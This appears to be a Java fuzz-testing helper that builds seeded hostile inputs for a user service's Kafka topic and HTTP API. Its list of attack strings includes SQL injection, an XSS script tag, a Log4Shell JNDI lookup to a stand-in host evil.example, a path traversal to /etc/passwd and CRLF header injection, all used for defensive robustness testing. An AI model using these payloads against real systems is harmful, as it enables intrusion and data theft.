package io.userpipe.local;

import io.userpipe.runtime.config.AppConfig;
import io.userpipe.runtime.kafka.ClientProps;
import io.userpipe.runtime.serde.AvroSerdes;
import io.userpipe.schemas.CreateUser;
import io.userpipe.schemas.Topics;
import io.userpipe.schemas.UpdateUser;
import io.userpipe.schemas.UserCommand;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.common.serialization.ByteArraySerializer;

/**
 * Seeded, reproducible hostile input for both doors: what each case sends and how it was made, so a
 * failure names the seed and the case.
 */
final class HostileInput {

  /** Strings that have broken parsers, logs and databases elsewhere. */
  static final List<String> NASTY =
      List.of(
          "' OR 1=1 --",
          "\"; DROP TABLE users; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "../../../../etc/passwd",
          "%00%0a%0d",
          "\u0000",
          "\ud800",
          "\u202e\u0645\u0631\u062d\u0628\u0627",
          "\u200b\u200c\u200d\ufeff",
          "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e",
          "\ud83d\ude00\ud83d\udc69\u200d\ud83d\udcbb",
          "\u00ad\u0301",
          "null",
          "-1",
          "1e309",
          "{}",
          "[]",
          "\\",
          "\r\nX-Injected: yes");

  private final Random random;

  HostileInput(long seed) {
    this.random = new Random(seed);
  }

  String nasty() {
    return NASTY.get(random.nextInt(NASTY.size()));
  }

  String randomString(int maxLength) {
    int n = random.nextInt(maxLength + 1);
    var sb = new StringBuilder(n);
    for (int i = 0; i < n; i++) {
      sb.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x3000) : 32 + random.nextInt(95)));
    }
    return sb.toString();
  }

  byte[] randomBytes(int maxLength) {
    byte[] bytes = new byte[random.nextInt(maxLength + 1)];
    random.nextBytes(bytes);
    return bytes;
  }

  // ---- the Kafka door ------------------------------------------------------------------------

  /** One record for users.commands, and how it was made. */
  record KafkaCase(String kind, byte[] key, byte[] value) {}

  /** A well-formed command, encoded as a producer would, with a fresh command id. */
  byte[] validCommandBytes(AvroSerdes serdes, String phone) {
    return serdes
        .valueSerde(Topics.USER_COMMANDS)
        .serializer()
        .serialize(Topics.USER_COMMANDS.name(), validCreate(phone));
  }

  static UserCommand validCreate(String phone) {
    return UserCommand.newBuilder()
        .setCommandId(UUID.randomUUID().toString())
        .setPlatformId("fuzz-platform")
        .setIssuedAt(Instant.now())
        .setPayload(
            CreateUser.newBuilder()
                .setFirstName("Ada")
                .setLastName("Lovelace")
                .setEmail("ada@example.com")
                .setCountryCode("1")
                .setPhoneNumber(phone)
                .setMetadata(Map.of())
                .build())
        .build();
  }

  KafkaCase kafkaCase(AvroSerdes serdes) {
    byte[] key = random.nextInt(4) == 0 ? null : randomBytes(40);
    byte[] valid = validCommandBytes(serdes, "2025" + (100000 + random.nextInt(900000)));
    switch (random.nextInt(8)) {
      case 0:
        return new KafkaCase("random bytes", key, randomBytes(300));
      case 1:
        return new KafkaCase(
            "truncated Avro", key, java.util.Arrays.copyOf(valid, random.nextInt(valid.length)));
      case 2:
        {
          byte[] mutated = valid.clone();
          for (int i = 0, n = 1 + random.nextInt(4); i < n; i++) {
            int at = 5 + random.nextInt(mutated.length - 5);
            mutated[at] = (byte) random.nextInt(256);
          }
          return new KafkaCase("mutated Avro", key, mutated);
        }
      case 3:
        {
          byte[] wrongId = valid.clone();
          int id = 100_000 + random.nextInt(1_000_000);
          wrongId[1] = (byte) (id >>> 24);
          wrongId[2] = (byte) (id >>> 16);
          wrongId[3] = (byte) (id >>> 8);
          wrongId[4] = (byte) id;
          return new KafkaCase("unknown schema id", key, wrongId);
        }
      case 4:
        {
          byte[] wrongMagic = valid.clone();
          wrongMagic[0] = (byte) (1 + random.nextInt(255));
          return new KafkaCase("wrong magic byte", key, wrongMagic);
        }
      case 5:
        return new KafkaCase("oversized", key, randomBytes(100_000 + random.nextInt(300_000)));
      case 6:
        {
          // decodes, but says nonsense: every field of an update hostile
          var update =
              UserCommand.newBuilder()
                  .setCommandId(UUID.randomUUID().toString())
                  .setPlatformId(nasty())
                  .setIssuedAt(Instant.ofEpochMilli(random.nextLong() >> 20))
                  .setUserId(random.nextBoolean() ? null : nasty())
                  .setPayload(
                      UpdateUser.newBuilder()
                          .setEmail(nasty())
                          .setFirstName(randomString(300))
                          .setDateOfBirth(nasty())
                          .build())
                  .build();
          return new KafkaCase(
              "hostile fields",
              key,
              serdes
                  .valueSerde(Topics.USER_COMMANDS)
                  .serializer()
                  .serialize(Topics.USER_COMMANDS.name(), update));
        }
      default:
        {
          var create = validCreate(random.nextBoolean() ? nasty() : randomString(30));
          ((CreateUser) create.getPayload()).setEmail(nasty());
          ((CreateUser) create.getPayload()).setFirstName(randomString(200));
          return new KafkaCase(
              "hostile create",
              key,
              serdes
                  .valueSerde(Topics.USER_COMMANDS)
                  .serializer()
                  .serialize(Topics.USER_COMMANDS.name(), create));
        }
    }
  }

  /** A producer of raw bytes to the command topic, as a careless upstream service might be. */
  static KafkaProducer<byte[], byte[]> rawProducer(AppConfig config) {
    var props = new java.util.HashMap<String, Object>(ClientProps.durableWriter(config, "fuzz"));
    props.put("max.request.size", 1_000_000);
    return new KafkaProducer<>(props, new ByteArraySerializer(), new ByteArraySerializer());
  }

  // ---- the HTTP door -------------------------------------------------------------------------

  /** One request, and how it was made. */
  record HttpCase(String kind, String method, String path, String authorization, String body) {}

  private static final List<String> PATHS =
      List.of(
          "/v2/users",
          "/v2/users/{id}",
          "/v2/users/{id}/send-verification-token",
          "/v2/users/{id}/verify",
          "/v2/users/{id}/compliance",
          "/v2/users/{id}/id-verification",
          "/v2/users/{id}/payout-methods",
          "/v2/users/{id}/payout-methods/{id}",
          "/v2/commands/{id}",
          "/v2/ofac/search?name={id}",
          "/admin/users/{id}/ofac-review",
          "/admin/ofac/review-queue?status={id}",
          "/admin/ofac/lists",
          "/internal/views/users-by-id/{id}",
          "/internal/keys/users-by-id?from={id}");

  private static final List<String> METHODS =
      List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS");

  /** The routes the API has, so most cases get past routing to the checks behind it. */
  static final List<String> ROUTES =
      List.of(
          "POST /v2/users",
          "GET /v2/users?limit={id}",
          "GET /v2/users/{id}",
          "PATCH /v2/users/{id}",
          "PUT /v2/users/{id}",
          "DELETE /v2/users/{id}",
          "POST /v2/users/{id}/send-verification-token",
          "POST /v2/users/{id}/verify",
          "PUT /v2/users/{id}/compliance",
          "POST /v2/users/{id}/id-verification",
          "PUT /v2/users/{id}/payout-methods",
          "GET /v2/users/{id}/payout-methods",
          "DELETE /v2/users/{id}/payout-methods/{id}",
          "GET /v2/commands/{id}",
          "POST /admin/users/{id}/ofac-review",
          "GET /admin/ofac/review-queue?status={id}");

  HttpCase httpCase(String goodAuth, String userId) {
    String path;
    String method;
    if (random.nextInt(4) > 0) {
      String[] route = ROUTES.get(random.nextInt(ROUTES.size())).split(" ");
      method = route[0];
      path = route[1];
    } else {
      method = METHODS.get(random.nextInt(METHODS.size()));
      path = PATHS.get(random.nextInt(PATHS.size()));
    }
    String id =
        switch (random.nextInt(4)) {
          case 0 -> userId;
          case 1 -> java.net.URLEncoder.encode(nasty(), StandardCharsets.UTF_8);
          case 2 -> "x".repeat(random.nextInt(5000));
          default -> UUID.randomUUID().toString();
        };
    path = path.replace("{id}", id.isEmpty() ? "x" : id);
    String auth =
        switch (random.nextInt(12)) {
          case 0 -> null;
          case 1 -> "Basic " + Base64.getEncoder().encodeToString("demo:wrong".getBytes());
          case 2 -> "Basic !!!not-base64";
          case 3 -> "Bearer " + randomString(40).replaceAll("[^A-Za-z0-9]", "a");
          default -> goodAuth;
        };
    String kind;
    String body;
    switch (random.nextInt(7)) {
      case 0:
        kind = "garbage";
        body = randomString(400);
        break;
      case 1:
        kind = "truncated JSON";
        String full = createJson("\"Ada\"");
        body = full.substring(0, random.nextInt(full.length()));
        break;
      case 2:
        kind = "wrong type";
        body =
            createJson(
                List.of("1", "true", "[]", "{}", "null", "-0.5e99", "\"" + "a".repeat(300) + "\"")
                    .get(random.nextInt(7)));
        break;
      case 3:
        kind = "hostile string";
        body = createJson(quote(nasty()));
        break;
      case 4:
        kind = "deep nesting";
        int depth = 2000 + random.nextInt(20000);
        body = "[".repeat(depth) + "]".repeat(depth);
        break;
      case 5:
        if (random.nextInt(4) == 0) {
          kind = "huge body";
          body = "{\"first_name\":\"" + "a".repeat(1_100_000) + "\"}";
        } else {
          kind = "long field";
          body = createJson(quote("a".repeat(random.nextInt(200_000))));
        }
        break;
      default:
        kind = "bad path or method";
        body = random.nextBoolean() ? null : "{}";
        break;
    }
    return new HttpCase(kind, method, path, auth, body);
  }

  private String createJson(String firstName) {
    return "{\"first_name\":"
        + firstName
        + ",\"last_name\":\"Lovelace\",\"email\":\"ada@example.com\",\"country_code\":\"1\","
        + "\"phone_number\":\"2025"
        + (100000 + random.nextInt(900000))
        + "\",\"type\":\"ach\",\"ach\":{\"routing_number\":"
        + firstName
        + "},\"w9\":{\"tin\":"
        + firstName
        + "}}";
  }

  private static String quote(String s) {
    return io.userpipe.runtime.http.Json.mapper().valueToTree(s).toString();
  }

  static HttpResponse<String> send(HttpClient http, String baseUrl, HttpCase c) throws Exception {
    var builder =
        HttpRequest.newBuilder(URI.create(baseUrl + c.path())).timeout(Duration.ofSeconds(30));
    if (c.authorization() != null) {
      builder.header("Authorization", c.authorization());
    }
    if (c.body() != null) {
      builder.header("Content-Type", "application/json");
    }
    builder.method(
        c.method(),
        c.body() == null
            ? HttpRequest.BodyPublishers.noBody()
            : HttpRequest.BodyPublishers.ofString(c.body()));
    return http.send(builder.build(), HttpResponse.BodyHandlers.ofString());
  }
}
